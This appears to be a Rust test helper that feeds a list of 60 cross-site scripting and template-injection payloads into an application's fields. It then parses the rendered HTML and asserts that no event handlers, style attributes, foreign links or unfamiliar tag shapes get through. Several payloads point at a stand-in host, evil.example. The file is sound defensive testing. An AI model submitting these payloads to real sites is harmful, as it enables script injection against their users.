//! Reads pages as a browser does, for the tags and attributes that texts must not add.

use std::collections::BTreeSet;

/// What an attacker writes; `@` stands for the mark of the field.
pub const HOSTILE: [&str; 60] = [
    "<script>@</script>",
    "</script><script>@</script>",
    "\"><script>@</script>",
    "'><script>@</script>",
    "</title><script>@</script>",
    "</textarea><script>@</script>",
    "</style><script>@</script>",
    "<!--@--><script>@</script>",
    "--><img src=x onerror=@>",
    "<img src=x onerror=@>",
    "<img/src=x/onerror=@>",
    "<IMG SRC=x ONERROR=@>",
    "<img src=`x` onerror=@>",
    "\" onmouseover=\"@",
    "' onmouseover='@",
    "\" autofocus onfocus=@ x=\"",
    "` onclick=`@",
    " onclick=@ ",
    "\"/onclick=\"@",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><a href=javascript:@>x</a></svg>",
    "<math><mtext><script>@</script>",
    "<body onload=@>",
    "<iframe src=javascript:@>",
    "<iframe srcdoc='<script>@</script>'>",
    "<object data=javascript:@>",
    "<embed src=javascript:@>",
    "<link rel=stylesheet href=//evil.example/@>",
    "<base href=//evil.example/@>",
    "<meta http-equiv=refresh content='0;url=//evil.example/@'>",
    "<form action=//evil.example/@><input name=q>",
    "<input formaction=//evil.example/@ type=submit>",
    "<style>@import'//evil.example/@'</style>",
    "<p style=background:url(//evil.example/@)>",
    "<details open ontoggle=@>",
    "<video src=x onerror=@>",
    "<audio src=x onerror=@>",
    "<marquee onstart=@>",
    "<a href=\"javascript:@\">x</a>",
    "javascript:@",
    "JaVaScRiPt:@",
    "java\u{9}script:@",
    "data:text/html,<script>@</script>",
    "//evil.example/@",
    "https://evil.example/@",
    "&lt;script&gt;@&lt;/script&gt;",
    "&#60;script&#62;@&#60;/script&#62;",
    "&#x3c;img src=x onerror=@&#x3e;",
    "%3Cscript%3E@%3C/script%3E",
    "\u{ff1c}script\u{ff1e}@\u{ff1c}/script\u{ff1e}",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
    "<\u{0}script>@</script>",
    "<scr\u{200b}ipt>@</scr\u{200b}ipt>",
    "{{@}}",
    "{ $amount } @",
    "${@}",
    "<%= @ %>",
    "]]><script>@</script>",
    "<a\u{a0}href=x onclick=@>\u{202e}x",
];

/// The tag and the names of its attributes.
type Shape = (String, Vec<String>);

/// What pages may look like, learnt from a round without malice; then what was found.
#[derive(Default)]
pub struct Scan {
    known: BTreeSet<Shape>,
    /// Whether this round has no malice.
    pub learning: bool,
    /// The marks that were seen.
    pub marks: BTreeSet<String>,
    /// How many pages were read.
    pub pages: usize,
}

impl Scan {
    /// Reads a page.
    pub fn page(&mut self, html: &str, what: &str) {
        self.pages += 1;
        for (name, attributes) in tags(html, what) {
            for (key, value) in &attributes {
                assert!(!key.starts_with("on") && key != "style", "{what}: {key} in {name}");
                if matches!(key.as_str(), "href" | "src" | "action" | "formaction" | "poster") {
                    assert!(is_ours(value), "{what}: {name} leads to {value}");
                }
            }
            let mut keys: Vec<_> = attributes.into_iter().map(|(key, _)| key).collect();
            keys.sort();
            let shape = (name, keys);
            if self.learning {
                self.known.insert(shape);
            } else {
                assert!(self.known.contains(&shape), "{what}: {shape:?} is new\n{html}");
            }
        }
        for (at, _) in html.match_indices("xq") {
            let mark: String = html[at..].chars().take(5).collect();
            if mark.ends_with('z') {
                self.marks.insert(mark);
            }
        }
    }
}

/// Where our own pages lead to.
fn is_ours(address: &str) -> bool {
    let path = address.starts_with('/') && !address[1..].starts_with(['/', '\\']);
    let local = address.starts_with("http://127.0.0.1:") && !address.contains('@');
    let quiet = ["?", "#", "tel:", "mailto:", "data:,"].iter().any(|s| address.starts_with(s));
    path || local || quiet || address.is_empty()
}

/// Every tag with its attributes, as a browser reads them; whatever begins like a tag is one.
fn tags(html: &str, what: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let begins = rest.chars().next().unwrap_or(' ');
        if !begins.is_ascii_alphabetic() {
            assert!(matches!(begins, '/' | '!'), "{what}: a bare < before {rest:.20}");
            continue;
        }
        let end =
            rest.find(|c: char| c.is_whitespace() || matches!(c, '>' | '/')).expect("its end");
        let name = rest[..end].to_ascii_lowercase();
        rest = &rest[end..];
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '=' | '>' | '/'));
            let end = end.unwrap_or_else(|| panic!("{what}: an open tag {name}"));
            let key = rest[..end].to_ascii_lowercase();
            rest = &rest[end..];
            let mut value = String::new();
            if let Some(quoted) = rest.strip_prefix("=\"") {
                let end = quoted.find('"').expect("a closing quote");
                value = quoted[..end].replace("&amp;", "&");
                rest = &quoted[end + 1..];
            } else {
                assert!(!rest.starts_with('='), "{what}: {key} of {name} stands without quotes");
            }
            attributes.push((key, value));
        }
        found.push((name, attributes));
    }
    found
}
